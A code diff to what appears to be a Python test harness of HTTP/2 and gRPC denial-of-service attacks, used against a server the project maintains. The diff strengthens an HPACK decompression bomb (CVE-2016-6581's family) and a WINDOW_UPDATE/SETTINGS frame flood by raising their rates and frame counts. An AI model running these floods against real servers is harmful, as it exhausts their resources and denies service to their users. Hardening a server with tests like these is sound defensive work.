@@ -48,8 +48,11 @@ def grpc_message(message: bytes, *, compressed: bool = False) -> bytes:
     return bytes((1 if compressed else 0,)) + struct.pack(">I", len(message)) + message
 
 
-def call_headers(encoder: hpack.Encoder, authority: str, **extra: str) -> bytes:
-    """A gRPC Export call's header block (RFC 9113 §8.3, the gRPC HTTP/2 protocol)."""
+def call_headers(
+    encoder: hpack.Encoder, authority: str, *, indexed: bool = True, **extra: str
+) -> bytes:
+    """A gRPC Export call's header block (RFC 9113 §8.3, the gRPC HTTP/2 protocol); with
+    ``indexed`` False every field is a never-indexed literal (the peer's table is untouched)."""
     fields = [
         (":method", "POST"),
         (":scheme", "http"),
@@ -59,6 +62,8 @@ def call_headers(encoder: hpack.Encoder, authority: str, **extra: str) -> bytes:
         ("te", "trailers"),
         *extra.items(),
     ]
+    if not indexed:
+        return bytes(encoder.encode([(name, value, True) for name, value in fields]))
     return bytes(encoder.encode(fields))
 
 
@@ -207,13 +212,14 @@ class StreamFlood(Attack):
 
 class HpackBomb(StreamFlood):
     """One 4 KB dynamic-table entry, then 64 KiB header blocks of 1-byte references to it
-    (each decodes to 4 KB of header list), 40 blocks a second (CVE-2016-6581's family)."""
+    (each decodes to 4 KB of header list), 80 blocks a second a connection (CVE-2016-6581's
+    family)."""
 
     per_batch = 1
-    pace_s = 1 / 40
+    pace_s = 1 / 80
 
     def stream_frames(self, encoder: hpack.Encoder, stream: int) -> bytes:
-        block = call_headers(encoder, "bomb")
+        block = call_headers(encoder, "bomb", indexed=False)  # the entry stays the newest
         if stream == 1:  # a new connection: its table gets the entry
             block += hpack_literal_indexed(b"x-bomb", b"a" * 4000)
         block += b"\xbe" * (65536 - len(block))  # index 62: the newest entry
@@ -226,8 +232,8 @@ class HpackBomb(StreamFlood):
 
 class HeldAnswers(StreamFlood):
     """``INITIAL_WINDOW_SIZE`` 0 and valid calls as fast as the server takes them (up to
-    ~2,000 a second): every answer waits for a window that never opens; every 0.5 s a few KB
-    of WINDOW_UPDATE and SETTINGS frames (each made the old server walk every held answer)."""
+    ~2,000 a second): every answer waits for a window that never opens; every 0.5 s 1,000
+    WINDOW_UPDATE and 500 SETTINGS frames (each made the old server walk every held answer)."""
 
     window = 0
     _last = 0.0
@@ -238,8 +244,8 @@ class HeldAnswers(StreamFlood):
     def after_batch(self, sock: socket.socket) -> None:
         if time.monotonic() - self._last > 0.5:
             self._last = time.monotonic()
-            noise = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200
-            sock.sendall(noise + settings(initial_window_size=0) * 100)
+            noise = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000
+            sock.sendall(noise + settings(initial_window_size=0) * 500)
 
 
 class NeverReading(StreamFlood):
